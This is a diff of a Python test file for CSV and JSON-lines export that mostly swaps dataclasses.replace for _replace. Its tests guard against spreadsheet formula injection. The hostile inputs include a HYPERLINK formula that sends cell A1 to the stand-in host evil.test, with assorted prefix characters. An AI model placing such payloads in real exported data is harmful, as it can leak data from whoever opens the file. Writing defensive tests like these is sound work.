@@ -6,7 +6,6 @@ import csv
 import io
 import json
 import re
-from dataclasses import replace
 
 import pytest
 
@@ -52,7 +51,7 @@ def test_a_row_has_every_column() -> None:
 
 
 def test_a_line_of_json_has_the_same_names_with_changes_apart() -> None:
-    lines = json_lines([ENTRY, replace(ENTRY, entry_id="e2", subject="a\nb")]).splitlines()
+    lines = json_lines([ENTRY, ENTRY._replace(entry_id="e2", subject="a\nb")]).splitlines()
 
     first, second = map(json.loads, lines)
     assert tuple(first) == COLUMNS
@@ -64,8 +63,8 @@ def test_a_line_of_json_has_the_same_names_with_changes_apart() -> None:
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_s241_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> None:
     formula = f'{start}HYPERLINK("https://evil.test?"&A1)'
-    hostile = replace(
-        ENTRY, actor_name=formula, subject=formula, reason=formula, changes=(formula, "", ""), resources=(formula,)
+    hostile = ENTRY._replace(
+        actor_name=formula, subject=formula, reason=formula, changes=(formula, "", ""), resources=(formula,)
     )
 
     (row,) = rows(hostile)
@@ -78,7 +77,7 @@ def test_s241_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> Non
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "﹢", "\u2212"])
 @pytest.mark.parametrize("before", ["", " ", '"', ' "" ', "\u00a0", "\ufeff"])
 def test_s241_no_cell_holds_a_formula_by_another_separator(separator: str, start: str, before: str) -> None:
-    hostile = replace(ENTRY, subject=f"Shop{separator}{before}{start}1+1", changes=("name", "", f"x;{start}1"))
+    hostile = ENTRY._replace(subject=f"Shop{separator}{before}{start}1+1", changes=("name", "", f"x;{start}1"))
 
     text = csv_text([hostile])
     cells = re.split(r"[;,|\t\r\n]", text)
@@ -89,9 +88,9 @@ def test_s241_no_cell_holds_a_formula_by_another_separator(separator: str, start
 
 def test_every_cell_is_quoted_so_none_can_begin_another_and_a_text_without_a_formula_is_as_it_was() -> None:
     subject = "Shop; north, a=b, 1-2 | x@y.test (10 - 5)"
-    assert rows(replace(ENTRY, subject=subject))[0]["subject"] == subject
+    assert rows(ENTRY._replace(subject=subject))[0]["subject"] == subject
 
-    head, row = csv_text([replace(ENTRY, subject='x",=1+1,"')]).splitlines()
+    head, row = csv_text([ENTRY._replace(subject='x",=1+1,"')]).splitlines()
 
     assert head.startswith('"time","event",')
     assert '"x"",\'=1+1,"""' in row
@@ -99,7 +98,7 @@ def test_every_cell_is_quoted_so_none_can_begin_another_and_a_text_without_a_for
 
 @pytest.mark.parametrize("subject", ["", '"' * 60, "é" * 60, "\U0001f600" * 60, "\x00" * 60, ";=" * 60, ",\t-" * 40])
 def test_the_weight_of_an_entry_is_at_least_what_it_takes_of_lambdas_response(subject: str) -> None:
-    entry = replace(ENTRY, subject=subject, changes=(subject, subject, subject))
+    entry = ENTRY._replace(subject=subject, changes=(subject, subject, subject))
     one, two = ([entry] * count for count in (1, 2))
 
     for written in (csv_text, json_lines):
